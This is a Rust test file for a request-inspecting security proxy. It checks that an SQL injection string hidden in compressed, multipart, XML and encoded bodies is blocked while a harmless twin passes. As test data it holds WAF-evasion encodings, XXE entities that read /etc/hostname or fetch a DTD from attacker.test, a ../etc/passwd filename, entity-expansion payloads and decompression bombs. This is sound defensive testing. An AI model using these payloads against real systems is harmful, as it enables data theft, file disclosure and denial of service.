//! Attacks in bodies that are compressed, in parts, XML, or broken: each is refused whatever the failure mode, and its
//! harmless twin passes, or is refused where `failureMode` is Closed and the body cannot be read as it says. The names are
//! those of ADR 5.

use std::fmt::Write as _;
use std::io::Write as _;
use std::time::Duration;

use rasp_engine::Ruleset;
use rasp_policy::api::FailureMode;
use rasp_policy::precedence::Effective;
use rasp_proxy::connection::Target;
use rasp_proxy::policy::InForce;

use super::client::{ask, get};
use super::gateway::Gateway;
use super::timers::{ALL_LONG, serve_changed};
use super::upstream::Upstream;

/// What stands for `§` in a body.
const ATTACK: &str = "1' UNION SELECT password FROM users--";
const FINE: &str = "select a plan";

/// Name, fields of the head, body, and what an attack in it and its harmless twin are answered where `failureMode` is Closed.
/// Where it is Open, what could not be read (400, 415, 503) passes. In fields and bodies `|` is a line break.
struct Vector(&'static str, &'static str, Body, u16, u16);

enum Body {
    /// With `§`.
    Text(&'static str),
    /// With `§`, and `\xNN` for bytes.
    Bytes(&'static str),
    /// In hexadecimal: the attack, and the harmless one.
    Hex(&'static str, &'static str),
    /// Made of what stands for `§`.
    Made(fn(&str) -> Vec<u8>),
}

use Body::{Bytes, Hex, Made, Text};

const JSON: &str = "Content-Type: application/json";
const XML: &str = "Content-Type: application/xml";
const FORM: &str = "Content-Type: multipart/form-data; boundary=b";
const GZIP: &str = "Content-Type: application/json|Content-Encoding: gzip";

fn json(value: &str) -> Vec<u8> {
    format!("{{\"q\":\"{value}\"}}").into_bytes()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn part(fields: &str, content: &[u8]) -> Vec<u8> {
    let fields = fields.replace('|', "\r\n");
    [format!("--b\r\n{fields}\r\n\r\n").as_bytes(), content, b"\r\n--b--\r\n"].concat()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

const VECTORS: &[Vector] = &[
    // Compressed.
    Vector("BD-05 gzip", GZIP, Made(|value| gzip(&json(value))), 403, 200),
    Vector(
        "BD-05 deflate",
        "Content-Type: application/json|Content-Encoding: deflate",
        Hex(
            "789cab562a54b25232545708f5f3f4f7530876f571750e5128482c2e2ecf2f4a51700bf2f755282d4e2d2ad6d555aa050026c60da0",
            "789cab562a54b2522a4ecd494d2e51485428c849cc53aa05004a2c06f8",
        ),
        403,
        200,
    ),
    Vector(
        "BD-05 deflate without a header",
        "Content-Type: application/json|Content-Encoding: deflate",
        Hex(
            "ab562a54b25232545708f5f3f4f7530876f571750e5128482c2e2ecf2f4a51700bf2f755282d4e2d2ad6d555aa0500",
            "ab562a54b2522a4ecd494d2e51485428c849cc53aa0500",
        ),
        403,
        200,
    ),
    Vector(
        "BD-05 br",
        "Content-Type: application/json|Content-Encoding: br",
        Hex(
            "1b2c00f81d07eebe0bf4f0113d568ab4ec654c5c5f9de880430ed8ff1541a2f51a9ee0f4935be2c94c3a5cc82f959501",
            "0b0a807b2271223a2273656c656374206120706c616e227d03",
        ),
        403,
        200,
    ),
    Vector(
        "BD-05 zstd",
        "Content-Type: application/json|Content-Encoding: zstd",
        Hex(
            "28b52ffd04586901007b2271223a22312720554e494f4e2053454c4543542070617373776f72642046524f4d2075736572732d2d227d0fd7c3db",
            "28b52ffd0458a900007b2271223a2273656c656374206120706c616e227d979d48d1",
        ),
        403,
        200,
    ),
    Vector("BD-07 a claim", GZIP, Text("{\"q\":\"§\"}"), 403, 415),
    Vector(
        "BD-07 the check sum is missing",
        GZIP,
        Made(|value| gzip(&json(value)).split_last_chunk::<8>().unwrap().0.to_vec()),
        403,
        415,
    ),
    Vector(
        "BD-07 something behind the end",
        GZIP,
        Made(|value| [gzip(&json(value)), b"and more".to_vec()].concat()),
        403,
        415,
    ),
    Vector(
        "BD-07 two members",
        GZIP,
        Made(|value| [gzip(b"{\"a\":\"b\","), gzip(&json(value)[1..])].concat()),
        403,
        200,
    ),
    Vector(
        "BD-08 identity",
        "Content-Type: application/json|Content-Encoding: identity",
        Text("{\"q\":\"§\"}"),
        403,
        200,
    ),
    Vector(
        "BD-08 x-gzip",
        "Content-Type: application/json|Content-Encoding: x-gzip",
        Made(|value| gzip(&json(value))),
        403,
        200,
    ),
    Vector(
        "BD-08 GZIP",
        "Content-Type: application/json|Content-Encoding: GZIP",
        Made(|value| gzip(&json(value))),
        403,
        200,
    ),
    Vector(
        "BD-08 two lines",
        "Content-Type: application/json|Content-Encoding: gzip|Content-Encoding: gzip",
        Made(|value| gzip(&gzip(&json(value)))),
        403,
        200,
    ),
    Vector(
        "BD-08 unknown",
        "Content-Type: application/json|Content-Encoding: zip",
        Text("{\"q\":\"§\"}"),
        403,
        415,
    ),
    // Parts: the boundary.
    Vector(
        "BD-21 no boundary",
        "Content-Type: multipart/form-data",
        Text("--b|Content-Disposition: form-data; name=\"q\"||§|--b--|"),
        403,
        400,
    ),
    Vector(
        "BD-21 an empty one",
        "Content-Type: multipart/form-data; boundary=\"\"",
        Text("--|Content-Disposition: form-data; name=\"q\"||§|----|"),
        403,
        403,
    ),
    Vector(
        "BD-21 71 characters",
        "Content-Type: multipart/form-data; boundary=bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
        Text(
            "--bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb|Content-Disposition: form-data; name=\"q\"||§|--bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb--|",
        ),
        403,
        200,
    ),
    Vector(
        "BD-21 twice, the first one counts",
        "Content-Type: multipart/form-data; boundary=b; boundary=c",
        Text("--b|Content-Disposition: form-data; name=\"q\"||§|--b--|"),
        403,
        400,
    ),
    Vector(
        "BD-21 twice, the last one counts",
        "Content-Type: multipart/form-data; boundary=b; boundary=c",
        Text("--c|Content-Disposition: form-data; name=\"q\"||§|--c--|"),
        403,
        400,
    ),
    Vector(
        "BD-21 quoted, with escapes",
        "Content-Type: multipart/form-data; boundary=\"b\\c\"",
        Text("--bc|Content-Disposition: form-data; name=\"q\"||§|--bc--|"),
        403,
        400,
    ),
    Vector(
        "BD-21 in pieces",
        "Content-Type: multipart/form-data; boundary*0=b; boundary*1=c",
        Text("--bc|Content-Disposition: form-data; name=\"q\"||§|--bc--|"),
        403,
        200,
    ),
    Vector(
        "BD-21 in pieces, and whole",
        "Content-Type: multipart/form-data; boundary=d; boundary*0=b; boundary*1=c",
        Text("--bc|Content-Disposition: form-data; name=\"q\"||§|--bc--|"),
        403,
        400,
    ),
    // Lines.
    Vector("BD-22 no end", FORM, Text("--b|Content-Disposition: form-data; name=\"q\"||§"), 403, 400),
    Vector(
        "BD-22 line feeds",
        FORM,
        Text("--b\nContent-Disposition: form-data; name=\"q\"\n\n§\n--b--\n"),
        403,
        200,
    ),
    Vector(
        "BD-22 carriage returns",
        FORM,
        Text("--b\rContent-Disposition: form-data; name=\"q\"\r\r§\r--b--\r"),
        400,
        400,
    ),
    Vector(
        "BD-22 NUL in the head of a part",
        FORM,
        Bytes("--b|Content-Disposition: form-data\\x00; name=\"q\"||§|--b--|"),
        403,
        200,
    ),
    Vector(
        "BD-22 NUL in a name",
        FORM,
        Bytes("--b|Content-Disp\\x00osition: form-data; name=\"q\"||§|--b--|"),
        403,
        400,
    ),
    Vector(
        "BD-22 NUL in the boundary",
        FORM,
        Bytes("--b\\x00|Content-Disposition: form-data; name=\"q\"||§|--b\\x00--|"),
        403,
        400,
    ),
    // Where nobody reads.
    Vector(
        "BD-23 before",
        FORM,
        Text("q=§|--b|Content-Disposition: form-data; name=\"a\"||x|--b--|"),
        403,
        200,
    ),
    Vector(
        "BD-23 behind",
        FORM,
        Text("--b|Content-Disposition: form-data; name=\"a\"||x|--b--|q=§|"),
        403,
        200,
    ),
    Vector(
        "BD-23 between",
        FORM,
        Text(
            "--b|Content-Disposition: form-data; name=\"a\"||x|--b-- §|--b|Content-Disposition: form-data; name=\"c\"||y|--b--|",
        ),
        403,
        200,
    ),
    Vector(
        "BD-24 something like a boundary in a part",
        FORM,
        Text("--b|Content-Disposition: form-data; name=\"q\"||x|--bb|§|--b--|"),
        403,
        200,
    ),
    Vector(
        "BD-24 the beginning of another one",
        "Content-Type: multipart/form-data; boundary=bb",
        Text("--bb|Content-Disposition: form-data; name=\"q\"||x|--b|§|--bb--|"),
        403,
        200,
    ),
    // Encoded and other characters.
    Vector(
        "BD-25 base64",
        FORM,
        Made(|value| {
            use base64::Engine as _;
            let encoded = base64::engine::general_purpose::STANDARD.encode(value);
            part(
                "Content-Disposition: form-data; name=\"q\"|Content-Transfer-Encoding: base64",
                encoded.as_bytes(),
            )
        }),
        403,
        200,
    ),
    Vector(
        "BD-25 quoted-printable",
        FORM,
        Made(|value| {
            let encoded = value.bytes().fold(String::new(), |mut all, byte| {
                let _ = write!(all, "={byte:02X}");
                all
            });
            part(
                "Content-Disposition: form-data; name=\"q\"|Content-Transfer-Encoding: quoted-printable",
                encoded.as_bytes(),
            )
        }),
        403,
        200,
    ),
    Vector(
        "BD-26 UTF-16",
        FORM,
        Made(|value| {
            part(
                "Content-Disposition: form-data; name=\"q\"|Content-Type: text/plain; charset=utf-16le",
                &wide(value),
            )
        }),
        403,
        200,
    ),
    Vector(
        "BD-26 UTF-7",
        FORM,
        Made(|value| {
            let encoded = value.replace('\'', "+ACc-");
            part(
                "Content-Disposition: form-data; name=\"q\"|Content-Type: text/plain; charset=utf-7",
                encoded.as_bytes(),
            )
        }),
        403,
        403, // no client that means no harm declares it for a part
    ),
    Vector(
        "BD-26 _charset_",
        FORM,
        Made(|value| {
            let charset = part("Content-Disposition: form-data; name=\"_charset_\"", b"utf-16le");
            let charset = charset.strip_suffix(b"--b--\r\n").unwrap();
            [charset, &part("Content-Disposition: form-data; name=\"q\"", &wide(value))].concat()
        }),
        403,
        200,
    ),
    // Heads of parts.
    Vector("BD-27 folded", FORM, Text("--b|Content-Disposition: form-data;| name=\"q\"||§|--b--|"), 403, 200),
    Vector(
        "BD-27 two of them",
        FORM,
        Text(
            "--b|Content-Disposition: form-data; name=\"a\"|Content-Disposition: form-data; name=\"q\"||§|--b--|",
        ),
        403,
        400,
    ),
    Vector(
        "BD-27 two names",
        FORM,
        Text("--b|Content-Disposition: form-data; name=\"a\"; name=\"§\"||x|--b--|"),
        403,
        400,
    ),
    Vector(
        "BD-27 an encoded name",
        FORM,
        Text("--b|Content-Disposition: form-data; name*=utf-8''1%27%20OR%20%271%27=%271 §||x|--b--|"),
        403,
        403,
    ),
    Vector(
        "BD-27 single quotes",
        FORM,
        Text("--b|Content-Disposition: form-data; name='q'||§|--b--|"),
        403,
        200,
    ),
    Vector(
        "BD-27 two names of a file",
        FORM,
        Text(
            "--b|Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"; filename*=utf-8''..%2f..%2f..%2fetc%2fpasswd||§|--b--|",
        ),
        403,
        403,
    ),
    Vector("BD-27 no name", FORM, Text("--b|Content-Disposition: form-data||§|--b--|"), 403, 200),
    // Many and long.
    Vector(
        "BD-28 2,000 parts",
        FORM,
        Made(|value| {
            let many = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\r\n".repeat(2_000);
            [many.into_bytes(), part("Content-Disposition: form-data; name=\"q\"", value.as_bytes())].concat()
        }),
        403,
        503,
    ),
    Vector(
        "BD-28 1,000 fields of a part",
        FORM,
        Made(|value| {
            let fields = format!("Content-Disposition: form-data; name=\"q\"{}", "|X-A: b".repeat(1_000));
            part(&fields, value.as_bytes())
        }),
        403,
        400,
    ),
    Vector(
        "BD-28 a field of 100 KB",
        FORM,
        Made(|value| {
            let fields = format!("Content-Disposition: form-data; name=\"q\"|X-A: {}", "b".repeat(100_000));
            part(&fields, value.as_bytes())
        }),
        403,
        400,
    ),
    Vector(
        "BD-29 parts in a part",
        FORM,
        Text(
            "--b|Content-Type: multipart/mixed; boundary=c||--c|Content-Disposition: form-data; name=\"q\"||§|--c--|--b--|",
        ),
        403,
        200,
    ),
    Vector(
        "BD-30 the name of a file",
        FORM,
        Text(
            "--b|Content-Disposition: form-data; name=\"f\"; filename=\"§\"|Content-Type: image/png||x|--b--|",
        ),
        403,
        200,
    ),
    Vector(
        "BD-30 the type of a part",
        FORM,
        Text("--b|Content-Disposition: form-data; name=\"f\"|Content-Type: §||x|--b--|"),
        403,
        200,
    ),
    Vector(
        "BD-30 the name of a part",
        FORM,
        Text("--b|Content-Disposition: form-data; name=\"§\"||x|--b--|"),
        403,
        200,
    ),
    // XML.
    Vector(
        "BD-34 entities of entities",
        XML,
        Text(
            "<!DOCTYPE a [<!ENTITY b \"bbbbbbbbbb\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><a>&e; §</a>",
        ),
        403,
        403,
    ),
    Vector(
        "BD-34 one entity many times",
        XML,
        Made(|value| {
            let (entity, many) = ("b".repeat(20_000), "&b;".repeat(20_000));
            format!("<!DOCTYPE a [<!ENTITY b \"{entity}\">]><a>{many} {value}</a>").into_bytes()
        }),
        403,
        403,
    ),
    Vector(
        "BD-34 an external entity",
        XML,
        Text("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b; §</a>"),
        403,
        403,
    ),
    Vector(
        "BD-34 a parameter entity",
        XML,
        Text("<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://attacker.test/b.dtd\"> %b;]><a>§</a>"),
        403,
        403,
    ),
    Vector("BD-34 a type alone", XML, Text("<!DOCTYPE a><a>§</a>"), 403, 200),
    Vector(
        "BD-35 UTF-16",
        XML,
        Made(|value| wide(&format!("\u{feff}<?xml version=\"1.0\" encoding=\"utf-16\"?><a>{value}</a>"))),
        403,
        200,
    ),
    Vector(
        "BD-35 UTF-7",
        XML,
        Made(|value| {
            let value = value.replace('\'', "+ACc-");
            format!("<?xml version=\"1.0\" encoding=\"utf-7\"?><a>{value}</a>").into_bytes()
        }),
        403,
        200,
    ),
    Vector(
        "BD-35 not what it declares",
        XML,
        Text("<?xml version=\"1.0\" encoding=\"utf-16\"?><a>§</a>"),
        403,
        200,
    ),
    Vector("BD-36 CDATA", XML, Text("<a><![CDATA[§]]></a>"), 403, 200),
    Vector(
        "BD-36 split by a comment",
        XML,
        Made(|value| {
            let (start, end) = value.split_at(8);
            format!("<a>{start}<!-- c -->{end}</a>").into_bytes()
        }),
        403,
        200,
    ),
    Vector(
        "BD-36 references to characters",
        XML,
        Made(|value| {
            let all = value.chars().fold(String::new(), |mut all, character| {
                let _ = write!(all, "&#x{:x};", u32::from(character));
                all
            });
            format!("<a>{all}</a>").into_bytes()
        }),
        403,
        200,
    ),
    Vector("BD-36 an attribute", XML, Text("<a b=\"§\"/>"), 403, 200),
    Vector("BD-36 a processing instruction", XML, Text("<a><?b §?></a>"), 403, 200),
    Vector(
        "BD-37 10,000 elements in one another",
        XML,
        Made(|value| format!("{}{value}{}", "<a>".repeat(10_000), "</a>".repeat(10_000)).into_bytes()),
        403,
        503,
    ),
    Vector(
        "BD-37 100,000 attributes, which is more than is read",
        XML,
        Made(|value| {
            let many = (0..100_000).fold(String::new(), |mut all, number| {
                let _ = write!(all, " a{number}=\"\"");
                all
            });
            format!("<a{many}>{value}</a>").into_bytes()
        }),
        413,
        413,
    ),
    // Encoded values.
    Vector(
        "BD-44 base64",
        JSON,
        Made(|value| {
            use base64::Engine as _;
            json(&base64::engine::general_purpose::STANDARD.encode(value))
        }),
        403,
        200,
    ),
    Vector(
        "BD-44 an address of data",
        JSON,
        Made(|value| {
            use base64::Engine as _;
            json(&format!(
                "data:text/plain;base64,{}",
                base64::engine::general_purpose::STANDARD.encode(value)
            ))
        }),
        403,
        200,
    ),
    Vector(
        "BD-44 claims of a token",
        JSON,
        Made(|value| {
            use base64::Engine as _;
            let encode = |text: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text);
            let claims = encode(&format!("{{\"sub\":\"{value}\"}}"));
            json(&format!("{}.{claims}.c2ln", encode("{\"alg\":\"none\"}")))
        }),
        403,
        200,
    ),
];

fn body(body: &Body, is_attack: bool) -> Vec<u8> {
    let value = if is_attack { ATTACK } else { FINE };
    match body {
        Text(text) => text.replace('|', "\r\n").replace('§', value).into_bytes(),
        Bytes(text) => {
            let text = text.replace('|', "\r\n").replace('§', value);
            let mut pieces = text.split("\\x");
            let mut bytes = pieces.next().unwrap().as_bytes().to_vec();
            for piece in pieces {
                bytes.push(u8::from_str_radix(&piece[..2], 16).unwrap());
                bytes.extend_from_slice(&piece.as_bytes()[2..]);
            }
            bytes
        }
        Hex(attack, fine) => {
            let digits = if is_attack { attack } else { fine };
            digits
                .as_bytes()
                .chunks(2)
                .map(|two| u8::from_str_radix(std::str::from_utf8(two).unwrap(), 16).unwrap())
                .collect()
        }
        Made(make) => make(value),
    }
}

fn request(fields: &str, body: &[u8]) -> Vec<u8> {
    let fields = fields.replace('|', "\r\n");
    let head =
        format!("POST /form HTTP/1.1\r\nHost: app\r\n{fields}\r\nContent-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

#[test]
fn an_attack_in_a_body_is_blocked_however_it_is_written_and_its_harmless_twin_is_not() {
    let mut wrong = Vec::new();
    for failure_mode in [FailureMode::Open, FailureMode::Closed] {
        let upstream = Upstream::ok();
        let target = Target::Gateway(upstream.address.to_string().into(), upstream.address.port());
        let inside = serve_changed(target, ALL_LONG, 64 << 20, |_| {});
        let effective = Effective { failure_mode, ..Effective::builtin_blocking() };
        inside.policy.replace(InForce::builtin(Ruleset::build(&effective).unwrap()));
        for Vector(name, fields, written, attack, fine) in VECTORS {
            for (is_attack, closed) in [(true, *attack), (false, *fine)] {
                let is_unread = matches!(closed, 400 | 415 | 503);
                let expected = if failure_mode == FailureMode::Open && is_unread { 200 } else { closed };
                let before = upstream.connections();
                let status = ask(inside.address, request(fields, &body(written, is_attack))).status();
                let arrived = upstream.since(before).len();
                let passed = status == 200;
                if status != expected || passed != (arrived > 0) {
                    wrong.push(format!(
                        "{name}, {failure_mode:?}, attack {is_attack}: {status} instead of {expected}, {arrived} bytes arrived"
                    ));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// A frame of zstd that repeats one byte (RFC 8878 section 3.1.1.2.2): four bytes for 128 KiB.
fn repeated(blocks: usize) -> Vec<u8> {
    let mut frame = b"\x28\xB5\x2F\xFD\x00\x38".to_vec(); // a window of 128 KiB
    for block in 1..=blocks {
        let header = u32::try_from(128 << 10).unwrap() << 3 | 1 << 1 | u32::from(block == blocks);
        frame.extend_from_slice(&header.to_le_bytes()[..3]);
        frame.push(b' ');
    }
    frame
}

#[test]
fn a_bomb_takes_little_memory_and_time_and_is_not_judged() {
    const BOUND_KIB: u64 = 16 << 10;
    let upstream = Upstream::ok();
    let gateway = Gateway::with(upstream.address, "{mode: Block, failureMode: Closed}");
    assert_eq!(ask(gateway.address, get("/")).status(), 200);
    let zeros = gzip(&vec![b' '; 10_000_000]);
    let bombs = [
        ("BD-06 gzip", "gzip", zeros.clone()),
        ("BD-06 gzip in gzip in gzip", "gzip, gzip, gzip", gzip(&gzip(&zeros))),
        ("BD-06 zstd", "zstd", repeated(10_000)),
        ("four codings", "gzip, gzip, gzip, gzip", gzip(&gzip(&gzip(&zeros)))),
    ];
    for (name, coding, bytes) in bombs {
        gateway.forget_peak_memory();
        let (memory, started) = (gateway.peak_memory(), std::time::Instant::now());
        let fields = format!("Content-Type: application/json|Content-Encoding: {coding}");
        let status = ask(gateway.address, request(&fields, &bytes)).status();
        assert!(matches!(status, 415 | 503), "{name}: {status}");
        let grown = gateway.peak_memory().saturating_sub(memory);
        println!("{name}: {} bytes, {status}, {grown} KiB, {:?}", bytes.len(), started.elapsed());
        assert!(grown < BOUND_KIB, "{name}: {grown} KiB");
        assert!(started.elapsed() < Duration::from_secs(10), "{name}: {:?}", started.elapsed());
    }
    assert!(!upstream.text().contains("/form"), "a bomb arrived");
}
